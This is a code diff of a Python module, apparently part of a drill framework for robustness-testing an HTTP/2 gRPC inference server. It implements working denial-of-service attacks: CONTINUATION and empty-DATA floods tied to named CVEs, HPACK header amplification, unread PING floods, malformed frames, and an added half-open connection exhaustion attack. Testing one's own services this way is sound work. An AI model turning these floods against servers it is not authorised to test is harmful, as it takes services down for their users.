@@ -1,10 +1,13 @@
-"""Frames of HTTP/2 without end, or that the protocol does not allow."""
+"""Floods of frames of HTTP/2, frames that the protocol does not allow, and connections that stay half open."""
 
+import contextlib
 import itertools
+import socket
 import struct
+import time
 
-from ..attack import Strike, attack
-from ..http2 import (
+from campaigns.drills.attack import Attack, Strike, attack
+from campaigns.drills.http2 import (
     ACK,
     CONTINUATION,
     DATA,
@@ -13,22 +16,22 @@ from ..http2 import (
     GOAWAY,
     HEADERS,
     PING,
+    PREFACE,
     PRIORITY,
     RST_STREAM,
     SETTINGS,
     WINDOW_UPDATE,
-    Http2Connection,
     call_headers,
     frame,
     grpc_message,
     literal,
 )
-from .noting import note_frames
 
 __all__ = ["ATTACKS"]
 
 _FLOODS = "floods of frames"
 _WRONG = "frames that are wrong"
+_CONNECTIONS = "connections"
 
 _AT_ONCE = 1000
 
@@ -37,12 +40,12 @@ def _flood(
     strike: Strike, frames: bytes, before: bytes = b"", *, count: int | None = None, reads: bool = False
 ) -> None:
     """Send the same frames again and again, on one connection, without reading what comes back."""
-    with Http2Connection(strike.target.host, strike.target.port) as connection:
+    with strike.connect() as connection:
         connection.send(before, strike.until)
         for _ in itertools.count() if count is None else range(count):
             if not connection.send(frames, strike.until, reads=reads):
                 break
-        note_frames(strike.answers, connection)
+        connection.note(strike.answers.note)
 
 
 @attack(_FLOODS)
@@ -54,7 +57,7 @@ def unread_pings(strike: Strike) -> None:
 @attack(_FLOODS)
 def continuations(strike: Strike) -> None:
     """A header block that goes on for ever, of small and of empty CONTINUATIONs (CVE-2024-27316)."""
-    started = frame(HEADERS, 0, 1, call_headers(strike.target.path("ModelInfer")))
+    started = frame(HEADERS, 0, 1, call_headers(strike.path("ModelInfer")))
     _flood(strike, frame(CONTINUATION, 0, 1, literal("x-key", "y" * 100)) * 100, started, reads=True)
     _flood(strike, frame(CONTINUATION, 0, 1) * _AT_ONCE, started, reads=True)
 
@@ -62,7 +65,7 @@ def continuations(strike: Strike) -> None:
 @attack(_FLOODS)
 def empty_data_frames(strike: Strike) -> None:
     """Frames of data without a byte, on one call, without end (CVE-2019-9518)."""
-    opened = frame(HEADERS, END_HEADERS, 1, call_headers(strike.target.path("ModelInfer")))
+    opened = frame(HEADERS, END_HEADERS, 1, call_headers(strike.path("ModelInfer")))
     _flood(strike, frame(DATA, 0, 1) * _AT_ONCE, opened, reads=True)
 
 
@@ -70,21 +73,21 @@ def empty_data_frames(strike: Strike) -> None:
 def indexed_headers(strike: Strike) -> None:
     """A header field of 4 kB, indexed once, that each call refers to 15,000 times: 60 MB of headers of 15 kB."""
     indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
-    path = strike.target.path("ModelInfer")
-    with Http2Connection(strike.target.host, strike.target.port) as connection:
+    path = strike.path("ModelInfer")
+    with strike.connect() as connection:
         connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, call_headers(path) + indexed), strike.until)
         for stream in range(3, 400, 2):
             block = call_headers(path) + b"\xbe" * 15_000
             if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block), strike.until):
                 break
-        note_frames(strike.answers, connection)
+        connection.note(strike.answers.note)
 
 
 @attack(_WRONG)
 def wrong_frames(strike: Strike) -> None:
     """Each kind of frame with a size, a stream or a flag that it may not have."""
-    call = frame(HEADERS, END_HEADERS, 1, call_headers(strike.target.path("ModelInfer")))
-    valid = frame(DATA, END_STREAM, 1, grpc_message(strike.target.valid))
+    call = frame(HEADERS, END_HEADERS, 1, call_headers(strike.path("ModelInfer")))
+    valid = frame(DATA, END_STREAM, 1, grpc_message(strike.valid))
     wrong = [
         frame(DATA, 0, 0, b"x"), frame(DATA, 0, 1, b"x"), frame(DATA, 8, 1, b"\xff"), frame(HEADERS, 4, 2, b"\x82"),
         frame(HEADERS, 4, 1, b"\xff\xff\xff\xff\xff\x0f"), frame(HEADERS, 4 | 8, 1, b"\xff"), frame(HEADERS, 4, 0),
@@ -101,9 +104,25 @@ def wrong_frames(strike: Strike) -> None:
     for data in wrong:
         if not strike.left():
             return
-        with Http2Connection(strike.target.host, strike.target.port) as connection:
+        with strike.connect() as connection:
             connection.send(data, strike.until)
-            note_frames(strike.answers, connection, calls=1)
+            connection.note(strike.answers.note, calls=1)
 
 
-ATTACKS = (unread_pings, continuations, empty_data_frames, indexed_headers, wrong_frames)
+@attack(_CONNECTIONS)
+def half_open_connections(strike: Strike) -> None:
+    """500 connections that send nothing, half a preface, or a preface, and stay."""
+    with contextlib.ExitStack() as held:
+        for number in itertools.takewhile(lambda _: strike.left(), range(500)):
+            try:
+                client = held.enter_context(socket.create_connection((strike.host, strike.port), 2))
+                client.sendall((b"", PREFACE[:12], PREFACE)[number % 3])
+                strike.answers.note("OPEN")
+            except OSError as error:
+                strike.answers.note("REFUSED", type(error).__name__)
+        time.sleep(strike.left())
+
+
+ATTACKS: tuple[Attack, ...] = (
+    unread_pings, continuations, empty_data_frames, indexed_headers, wrong_frames, half_open_connections,
+)  # fmt: skip
